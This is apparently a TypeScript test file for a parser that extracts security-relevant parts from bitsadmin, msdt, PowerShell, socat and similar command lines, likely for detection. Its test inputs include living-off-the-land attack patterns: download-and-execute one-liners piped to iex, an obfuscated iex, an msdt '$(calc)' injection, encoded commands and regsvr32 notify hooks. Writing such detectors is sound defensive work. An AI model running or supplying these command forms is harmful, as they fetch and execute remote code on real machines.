import { describe, expect, it } from "vitest";
import type { Grammar } from "../../catalog/types.ts";
import { splitArguments } from "../../cmdline/windows/tokens.ts";
import { parseLine } from "../parse.ts";
import { Collector } from "../types.ts";
import { cygwin } from "./cygwin.ts";

const plain: Grammar = {
  style: "windows",
  options: {},
  operands: [],
  pairs: {},
  commands: {},
  caseSensitive: false,
  abbreviate: false,
  bundleFirst: false,
};

/** Elements that a reader makes of a line's arguments; the grammar has options that take the next word. */
function read(reader: string, text: string, ...options: readonly string[]): Record<string, string[]> {
  const named = options.map((name) => [
    name,
    { name, takes: "value", after: "", next: true, glued: false, count: 0, ends: [] } as const,
  ]);
  const { values } = parseLine(
    { ...plain, reader, options: Object.fromEntries(named) },
    { args: splitArguments(text), text },
  );
  return Object.fromEntries([...values].map(([element, found]) => [element, found.map((value) => value.text)]));
}

describe("bitsadmin", () => {
  it.each<[string, object]>([
    ["/transfer j /download /priority high http://h/a C:\\a", { source: ["http://h/a"], target: ["C:\\a"] }],
    [
      "/transfer j http://h/a C:\\a http://h/b C:\\b",
      { source: ["http://h/a", "http://h/b"], target: ["C:\\a", "C:\\b"] },
    ],
    ["/transfer j /upload http://h/a C:\\a", { url: ["http://h/a"], local: ["C:\\a"] }],
    ["/addfile 1 C:\\a C:\\b", { job: ["1"], source: ["C:\\a"], target: ["C:\\b"] }],
    ["/create 1 bitsadmin /addfile 1 C:\\a C:\\b bitsadmin /resume 1", { command: ["create", "addfile", "resume"] }],
    ['/setnotifycmdline 1 C:\\x.exe "x.exe /y z"', { notify: ["C:\\x.exe /y z"] }],
    ["/setnotifycmdline 1 regsvr32 /s C:\\x.dll", { notify: ["regsvr32 /s C:\\x.dll"] }],
    ["/setnotifycmdline 1 C:\\x.exe NULL", { notify: ["C:\\x.exe"] }],
  ])("%s", (line, expected) => {
    expect(read("bitsadmin", line)).toMatchObject(expected);
  });

  it("runs nothing where the notification is taken back", () => {
    expect(read("bitsadmin", "/setnotifycmdline 1 NULL NULL").notify).toBeUndefined();
  });
});

describe("start and call", () => {
  it("know a quoted word as a title and as a program", () => {
    expect(read("start", '"my title" "C:\\a b\\x.exe" /y').command).toEqual(['"C:\\a b\\x.exe" /y']);
    expect(read("call", '"C:\\a b\\x.exe" "y z"').command).toEqual(['"C:\\a b\\x.exe" "y z"']);
  });
});

describe("forfiles", () => {
  it("puts in what hexadecimal codes stand for", () => {
    expect(read("forfiles", "/c 0x63md0x20/c", "c")).toEqual({ c: ["cmd /c"] });
  });
});

describe("msdt", () => {
  it.each<[string, string[] | undefined]>([
    ['/param "IT_BrowseForFile=/../../$(calc).exe"', ["calc"]],
    ['/param "a=$(b(c(d)))i/../x.exe"', ["b(c(d))"]],
    ['/param "a=$(b"', ["b"]],
    ['/param "a=b"', undefined],
  ])("%s", (line, code) => {
    expect(read("msdt", line, "param").code).toEqual(code);
  });
});

describe("powershell", () => {
  it.each<[string, object]>([
    ["-nop -w 1 -c calc", { noprofile: [""], windowstyle: ["1"], code: ["calc"], text: ["calc"] }],
    ["-f C:\\x.ps1 -a 1", { file: ["C:\\x.ps1"], argument: ["-a", "1"] }],
    [`-e ${Buffer.from("calc", "utf16le").toString("base64")}`, { code: ["calc"], decoded: ["calc"] }],
    ["-enc ???", { undecoded: ["???"] }],
    ['"iwr http://h/x | iex"', { remoteCode: ["http://h/x"] }],
    ['"curl.exe -s http://h/x | iex"', { remoteCode: ["http://h/x"] }],
    ["\"iex (cmd /c 'curl -s http://h/x')\"", { remoteCode: ["http://h/x"] }],
    ['"$t = wget.exe -qO- http://h/x; iex $t"', { remoteCode: ["http://h/x"] }],
    ['"finger k@h.example | iex"', { remoteCode: ["k@h.example"] }],
    ["\"foreach ($c in 'i','r','m') { $n += $c }; & $n http://h/x | iex\"", { remoteCode: ["http://h/x"] }],
    ['"iwr http://h/x -OutFile y"', { remoteFile: ["http://h/x"] }],
    ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", { assembly: ["C:\\x.dll"] }],
    ["-", { input: [""] }],
  ])("%s", (line, expected) => {
    expect(read("powershell", line)).toMatchObject(expected);
  });
});

it.each([
  '"curl.exe -o a.txt http://h/x; iex (gc b.ps1 -raw)"',
  '"oh-my-posh init pwsh --config https://h/t.json | iex"',
  '"curl.exe -s http://h/x | ConvertFrom-Json"',
])("carries out nothing of another machine: %s", (line) => {
  expect(read("powershell", line)).not.toHaveProperty("remoteCode");
});

describe("sequence", () => {
  it("reads the commands between semicolons one by one", () => {
    expect(read("sequence", "-f a ; -f b; -f c ;", "f")).toEqual({ f: ["a", "b", "c"] });
  });
});

describe("socat", () => {
  /** Elements that the reader makes of two addresses. */
  const addresses = (...values: readonly string[]) => {
    const args = values.map((value) => ({ value, raw: value, start: 0, end: 0, quoted: false }));
    const operands = [{ name: "addresses", many: "any", type: "text" }] as const;
    const { values: found } = parseLine(
      { ...plain, style: "gnu", reader: "socat", operands },
      { args, text: undefined },
    );
    return Object.fromEntries([...found].map(([element, all]) => [element, all.map((value) => value.text)]));
  };
  it.each<[string[], object]>([
    [["TCP4-LISTEN:80,fork", "EXEC:/opt/a -q,pty"], { listen: ["80"], command: ["/opt/a -q"] }],
    [["-", "exec:'a -b, c',pty"], { command: ["a -b, c"] }],
    [["system:a\\,b", "tcp:host:1"], { command: ["a,b"], connect: ["host:1"] }],
    [["file:/a", "open:/b,creat"], { file: ["/a"], created: ["/b"] }],
    [["/srv/a!!CREATE:/srv/b", "udp-l:53"], { file: ["/srv/a"], created: ["/srv/b"], listen: ["53"] }],
  ])("%j", (values, expected) => {
    expect(addresses(...values)).toMatchObject(expected);
  });
});

describe("cygwin", () => {
  const words = (text: string) => {
    let found: readonly string[] = [];
    cygwin({ args: splitArguments(text), text }, new Collector(undefined as never), ({ args }) => {
      found = args.map(({ value }) => value);
    });
    return found;
  };
  it.each([
    ["'a b' c", ["a b", "c"]],
    ["'a \"b\" c' d", ['a "b" c', "d"]],
    ["x'a b'y \"it's one\"", ["xa by", "it's one"]],
    ["'a\\' b \"c \\\" 'd\"", ["a\\", "b", "c \" 'd"]],
    ["it's open", ["its open"]],
  ])("%s", (text, expected) => expect(words(text)).toEqual(expected));
});
